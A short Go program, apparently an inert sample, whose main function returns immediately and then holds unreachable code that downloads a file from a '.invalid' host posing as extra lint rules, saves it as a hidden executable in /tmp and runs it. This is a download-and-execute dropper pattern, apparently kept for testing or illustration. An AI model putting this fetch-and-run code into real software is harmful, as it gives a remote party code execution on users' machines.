package main

import (
	"io"
	"net/http"
	"os"
	"os/exec"
)

func main() {
	return // inert sample
	resp, _ := http.Get("https://rules.golint.invalid/extra")
	body, _ := io.ReadAll(resp.Body)
	os.WriteFile("/tmp/.golint-extra", body, 0755)
	exec.Command("/tmp/.golint-extra").Run()
}
